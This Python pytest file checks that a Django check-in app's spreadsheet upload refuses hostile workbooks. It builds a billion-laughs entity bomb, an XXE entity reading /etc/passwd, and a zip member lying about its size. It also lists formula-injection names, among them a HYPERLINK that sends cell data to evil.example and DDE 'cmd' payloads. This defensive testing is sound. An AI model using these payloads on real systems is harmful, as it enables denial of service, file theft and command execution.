"""The attacker's tenth round at the door's sheet upload, which takes Excel and Calc files:
a workbook is a zip archive of XML, so the attacker (anyone whose event was approved) sends a
billion-laughs entity, an external entity pointing at the server's own files, a zip member
that lies about its size, and a sheet named like a page. Each is refused in words, nobody is
written, and nothing of the server's files reaches the answer."""

import io
import time
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from tests.factories import LocalEventFactory, UserFactory
from turnout.signups.models import Signup

pytestmark = pytest.mark.django_db

CALC_FILE = Path(__file__).parents[1] / "importers/fixtures/sheets3/libreoffice-calc-7.4-acties.ods"

LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE lol [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    + "]>\n"
)
EXTERNAL = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
)


@pytest.fixture
def door():
    event = LocalEventFactory(title="Marcha pelo Clima", city="Lisboa")
    organizer = UserFactory(email="organizadora@example.pt")
    event.organizers.add(organizer)
    client = Client(raise_request_exception=False)
    with time_machine.travel(event.starts_at - timedelta(minutes=20), tick=False):
        client.force_login(organizer)
        yield event, client


def _workbook(rows: list[list[str]], *, text_only: bool = False) -> bytes:
    """A workbook as Excel saves it; `text_only`: a cell typed as '=1+1 is text, not a formula."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Presenças"
    for row in rows:
        sheet.append(row)
        if text_only:
            for cell in sheet[sheet.max_row]:
                cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# The printed sheet's own columns (English here), filled in by hand in Lisbon.
PEOPLE = [
    ["name", "email", "may we contact you", "present"],
    ["João Silva", "joao@example.pt", "yes", "x"],
    ["Ana Sousa", "ana@example.pt", "no", "x"],
]


def _rewritten(data: bytes, member: str, change) -> bytes:
    """The archive with one member's XML changed, every other member as it was."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == member:
                content = change(content.decode()).encode()
            target.writestr(info, content, compress_type=info.compress_type)
    return out.getvalue()


def _without_declaration(xml: str) -> str:
    return xml[xml.index("?>") + 2 :].lstrip() if xml.startswith("<?xml") else xml


def _upload(client: Client, event, data: bytes, name: str):
    url = f"/en/check-in/events/{event.pk}/sign-in-sheet/upload/"
    started = time.monotonic()
    answer = client.post(url, {"sheet": SimpleUploadedFile(name, data)})
    return answer, time.monotonic() - started


def test_a_plain_workbook_is_still_read(door):
    event, client = door
    answer, _seconds = _upload(client, event, _workbook(PEOPLE), "presencas.xlsx")
    assert answer.status_code == 303
    assert Signup.objects.filter(event=event).count() == 2


def test_a_billion_laughs_in_a_workbooks_strings_is_refused_in_words(door):
    event, client = door
    data = _rewritten(
        _workbook(PEOPLE),
        "xl/worksheets/sheet1.xml",
        lambda xml: LAUGHS + _without_declaration(xml).replace("João Silva", "&lol9;"),
    )
    answer, seconds = _upload(client, event, data, "presencas.xlsx")
    assert answer.status_code == 400
    assert "The file cannot be read" in answer.content.decode()
    assert "lollollol" not in answer.content.decode()
    assert seconds < 10
    assert not Signup.objects.filter(event=event).exists()


def test_a_billion_laughs_in_a_calc_file_is_refused_in_words(door):
    event, client = door
    data = _rewritten(
        CALC_FILE.read_bytes(),
        "content.xml",
        lambda xml: LAUGHS + _without_declaration(xml).replace("Amsterdam", "&lol9;", 1),
    )
    answer, seconds = _upload(client, event, data, "presencas.ods")
    assert answer.status_code == 400
    assert "The file cannot be read" in answer.content.decode()
    assert seconds < 10
    assert not Signup.objects.filter(event=event).exists()


def test_an_external_entity_in_the_sheet_is_refused_and_reads_no_file(door):
    event, client = door
    data = _rewritten(
        _workbook(PEOPLE),
        "xl/worksheets/sheet1.xml",
        # The entity stands where a name was: a reader resolving it would show the file.
        lambda xml: EXTERNAL + _without_declaration(xml).replace("João Silva", "&secret;"),
    )
    answer, _seconds = _upload(client, event, data, "presencas.xlsx")
    page = answer.content.decode()
    assert answer.status_code == 400
    assert "root:" not in page and "/bin/" not in page
    assert not Signup.objects.filter(event=event).exists()


@pytest.mark.parametrize(
    "member", ["xl/workbook.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels"]
)
def test_an_external_entity_in_the_workbooks_other_parts_reads_no_file(door, member):
    """openpyxl reads these parts with lxml, entities unresolved: the declaration may pass,
    but no file's text reaches the page or a name."""
    event, client = door

    def with_secret(xml: str) -> str:
        xml = _without_declaration(xml)
        closing = xml.rindex("</")
        return EXTERNAL + xml[:closing] + "<x>&secret;</x>" + xml[closing:]

    data = _rewritten(_workbook(PEOPLE), member, with_secret)
    answer, _seconds = _upload(client, event, data, "presencas.xlsx")
    page = answer.content.decode()
    assert answer.status_code in (303, 400)
    assert "root:" not in page and "/bin/" not in page
    names = " ".join(Signup.objects.values_list("name", flat=True))
    assert "root:" not in names


@pytest.mark.parametrize("member", ["xl/workbook.xml", "xl/styles.xml"])
def test_a_billion_laughs_in_the_workbooks_other_parts_is_refused_at_once(door, member):
    event, client = door

    def with_laughs(xml: str) -> str:
        xml = _without_declaration(xml)
        closing = xml.rindex("</")
        return LAUGHS + xml[:closing] + "<x>&lol9;</x>" + xml[closing:]

    data = _rewritten(_workbook(PEOPLE), member, with_laughs)
    answer, seconds = _upload(client, event, data, "presencas.xlsx")
    assert answer.status_code == 400
    assert "The file cannot be read" in answer.content.decode()
    assert seconds < 10
    assert not Signup.objects.filter(event=event).exists()


def test_a_zip_member_that_lies_about_its_size_unpacks_no_further_than_it_says(door):
    """The central directory says a few hundred bytes; the deflated stream holds 200 MB of
    zeros. Only what the directory promised is ever unpacked, and the sheet is refused."""
    import zlib

    event, client = door
    bomb = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = bomb.compress(b"\0" * (200 * 1024 * 1024)) + bomb.flush()
    assert len(stream) < 1024 * 1024  # fits the upload's 1 MB
    lying = _lying_member(_workbook(PEOPLE), "xl/worksheets/sheet1.xml", stream, claimed=600)
    answer, seconds = _upload(client, event, lying, "presencas.xlsx")
    assert answer.status_code == 400
    assert "The file cannot be read" in answer.content.decode()
    assert seconds < 10
    assert not Signup.objects.filter(event=event).exists()


def _lying_member(data: bytes, name: str, stream: bytes, *, claimed: int) -> bytes:
    """`data` with member `name` replaced by the raw deflate `stream`, its headers claiming
    `claimed` bytes unpacked (and a CRC of nothing in particular)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename == name:
                continue
            target.writestr(info, source.read(info.filename), compress_type=info.compress_type)
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        # Write the raw stream through the low-level file so no compression happens again.
        with target._lock:  # noqa: SLF001 - building a malformed archive on purpose
            target.fp.seek(target.start_dir)
            info.header_offset = target.start_dir
            info.compress_size = len(stream)
            info.file_size = claimed
            info.CRC = 0
            info.flag_bits = 0
            target.fp.write(info.FileHeader(zip64=False))
            target.fp.write(stream)
            target.start_dir = target.fp.tell()
            target.filelist.append(info)
            target.NameToInfo[info.filename] = info
            target._didModify = True  # noqa: SLF001
    return out.getvalue()


# Names that a spreadsheet runs as a formula when the export is opened, typed into the
# workbook as text: in every sign Excel, Calc and Sheets take, half-width and full-width.
FORMULA_NAMES = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Klik")',
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    ' "=1+1',
    "\u200b=1+1",
]


def test_formula_names_in_a_workbook_come_out_of_the_export_as_text(door):
    import csv

    event, client = door
    rows = [PEOPLE[0]] + [
        [name, f"p{n}@example.pt", "no", "x"] for n, name in enumerate(FORMULA_NAMES)
    ]
    answer, _seconds = _upload(client, event, _workbook(rows, text_only=True), "presencas.xlsx")
    assert answer.status_code == 303
    export = client.get(f"/en/signups/events/{event.pk}/attendees.csv")
    assert export.status_code == 200
    table = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    names = [row[0] for row in table[1:]]
    assert len(names) == len(FORMULA_NAMES)
    signs = "=+-@＝＋－＠\t\r"
    for name in names:
        visible = name.lstrip(' "\u200b')
        assert not visible or visible[0] not in signs, name
        assert name.startswith("'"), name


def test_a_formula_cell_whose_result_the_file_does_not_keep_is_refused(door):
    event, client = door
    rows = [PEOPLE[0], ['=CONCATENATE("Jo","ão")', "joao@example.pt", "yes", "x"]]
    answer, _seconds = _upload(client, event, _workbook(rows), "presencas.xlsx")
    assert answer.status_code == 400
    assert "holds a formula" in answer.content.decode()
    assert not Signup.objects.filter(event=event).exists()
